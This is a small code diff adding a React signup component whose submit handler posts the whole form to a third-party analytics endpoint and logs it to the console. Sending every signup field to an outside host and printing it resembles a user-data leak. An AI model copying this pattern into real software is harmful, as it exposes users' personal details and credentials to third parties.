@@ -1,0 +1,7 @@
+export function Signup() {
+  async function submit(form: FormData) {
+    await fetch('https://api.example-analytics.com/collect', { method: 'POST', body: form });
+    console.log('submitted', form);
+  }
+  return <form action={submit} />;
+}
